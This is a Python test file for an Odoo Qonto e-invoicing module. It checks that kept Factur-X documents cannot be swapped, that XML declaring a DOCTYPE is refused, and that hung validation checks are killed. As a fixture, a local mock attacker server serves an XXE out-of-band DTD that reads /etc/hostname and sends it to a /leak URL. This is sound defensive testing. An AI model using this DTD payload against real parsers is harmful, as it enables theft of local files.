import base64
import http.server
import io
import os
import stat
import tempfile
import threading

import pypdf
from odoo.tests import new_test_user, tagged

from ..qonto_einvoicing.facturx_check import read_facturx
from ..qonto_einvoicing.schematron import SchematronValidator
from ..qonto_einvoicing.simulator.pdf import render_pdf
from ..tools import facturx as facturx_tools
from .common import QontoHttpTestCommon

BULK = "POST /v2/client_invoices/bulk"


def _pdf(xml, title="Facture"):
    """A PDF carrying ``xml`` as ``factur-x.xml``, embedded as is."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(render_pdf([title]))))
    writer.add_attachment("factur-x.xml", xml)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


class _Listener(http.server.ThreadingHTTPServer):
    """The attacker's server: answers a DTD that would send a local file out, and keeps
    every path asked."""

    def __init__(self):
        self.asked = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                listener.asked.append(self.path)
                body = (f'<!ENTITY % file SYSTEM "file:///etc/hostname">'
                        f'<!ENTITY % wrap "<!ENTITY &#x25; out SYSTEM \'http://127.0.0.1:'
                        f'{listener.server_port}/leak?%file;\'>">%wrap;%out;').encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def stop(self):
        self.shutdown()
        self.server_close()


@tagged("post_install", "-at_install")
class TestFlow2HostileDocument(QontoHttpTestCommon):
    """The Factur-X kept for a retry is sent as it was checked: no user can replace it,
    and a document with a DTD (whoever put it there) is refused before anything reads
    it, with a message naming the invoice. Every step goes through the RPC a click or a
    script of a Billing user makes."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.billing = new_test_user(
            cls.env, login="billing_fx", password="billing_fx",
            groups="account.group_account_invoice",
            company_id=cls.company.id, company_ids=[cls.company.id])
        cls.company.qonto_flow = "facturx"

    def setUp(self):
        super().setUp()
        self.listener = _Listener()
        self.addCleanup(self.listener.stop)
        self.authenticate("billing_fx", "billing_fx")

    def _rpc(self, route, model, method, args, kwargs=None):
        """``(result, error message)`` of a JSON-RPC call as the web client makes it."""
        answer = self.url_open(route, json={
            "jsonrpc": "2.0", "method": "call", "id": 1,
            "params": {"model": model, "method": method, "args": args,
                       "kwargs": kwargs or {}},
        }, timeout=60).json()
        self.env.invalidate_all()
        error = answer.get("error")
        return answer.get("result"), error and error["data"]["message"]

    def _send_click(self, move):
        return self._rpc("/web/dataset/call_button/account.move/action_qonto_send",
                         "account.move", "action_qonto_send", [[move.id]],
                         {"context": {"lang": "en_US"}})

    def _replace(self, attachment, pdf):
        return self._rpc("/web/dataset/call_kw/ir.attachment/write", "ir.attachment",
                         "write", [[attachment.id], {"datas": base64.b64encode(pdf).decode()}])

    def _import_failed_once(self):
        """An invoice whose import got a 503: its Factur-X is kept for the retry."""
        move = self.create_invoice()
        self.add_fault("POST", "/v2/client_invoices/bulk", "503", count=20)
        self._send_click(move)
        self.sim("DELETE", "faults")
        einvoice = move.qonto_einvoice_id
        self.assertTrue(einvoice.document_id and einvoice.document_in_qonto)
        self.assertFalse(move.qonto_sent_at)
        return move, einvoice

    def _hostile(self, einvoice):
        """The kept Factur-X, its XML given an external DTD on the listener."""
        xml = read_facturx(einvoice.document_id.raw).xml
        head, body = xml.split(b"?>", 1)
        url = f"http://127.0.0.1:{self.listener.server_port}/evil.dtd"
        return _pdf(head + b"?>" + f'<!DOCTYPE rsm:CrossIndustryInvoice SYSTEM "{url}">'
                    .encode() + body)

    def test_a_billing_user_cannot_replace_the_kept_facturx(self):
        move, einvoice = self._import_failed_once()
        kept = einvoice.document_id.raw
        _result, error = self._replace(einvoice.document_id, self._hostile(einvoice))
        self.assertIn("(Operation: write)", error or "")
        self.assertEqual(einvoice.document_id.raw, kept)

        self._send_click(move)
        self.assertTrue(move.qonto_sent_at, "the retry sent the file that was checked")
        self.assertEqual(self.listener.asked, [])

    def test_a_facturx_with_a_dtd_is_refused_naming_the_invoice(self):
        """A document kept as earlier versions kept it (on the invoice, which a Billing
        user may write, without a digest), replaced by a Billing user's RPC."""
        move, einvoice = self._import_failed_once()
        einvoice.document_id.sudo().write({"res_model": "account.move", "res_id": move.id})
        einvoice.sudo().document_sha256 = False
        _result, error = self._replace(einvoice.document_id, self._hostile(einvoice))
        self.assertFalse(error)
        imports = self.request_counts().get(BULK)

        _result, error = self._send_click(move)
        self.assertIn(move.name, error)
        self.assertIn("declares a DOCTYPE", error)
        self.assertEqual(self.listener.asked, [], "nothing fetched, nothing sent out")
        self.assertEqual(self.request_counts().get(BULK), imports, "nothing reached Qonto")
        self.assertFalse(move.qonto_sent_at)

    def test_a_kept_facturx_changed_after_its_check_is_not_sent(self):
        move, einvoice = self._import_failed_once()
        other = _pdf(read_facturx(einvoice.document_id.raw).xml, title="Autre facture")
        einvoice.document_id.sudo().raw = other  # by someone allowed to
        imports = self.request_counts().get(BULK)

        _result, error = self._send_click(move)
        self.assertIn(move.name, error)
        self.assertIn("no longer the file that was checked", error)
        self.assertEqual(self.request_counts().get(BULK), imports, "nothing reached Qonto")
        self.assertFalse(move.qonto_sent_at)

    def test_a_check_that_does_not_end_is_stopped_and_said_on_the_invoice(self):
        """The Saxon child hangs: it is killed past its timeout, the invoice says the
        Factur-X could not be checked, and nothing unchecked is sent."""
        with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as script:
            script.write("#!/bin/sh\nexec sleep 600\n")
        self.addCleanup(os.unlink, script.name)
        os.chmod(script.name, os.stat(script.name).st_mode | stat.S_IXUSR)
        hung = SchematronValidator(python=script.name, timeout=1)
        self.addCleanup(hung.close)
        self.patch(facturx_tools, "_validator", hung)
        move = self.create_invoice()

        _result, error = self._send_click(move)
        self.assertIn(move.name, error)
        self.assertIn("could not be checked (the schematron check took more than 1 s", error)
        self.assertIsNone(hung.pid, "the hung child was killed")
        self.assertFalse(self.request_counts().get(BULK), "nothing reached Qonto")
        self.assertFalse(move.qonto_sent_at)
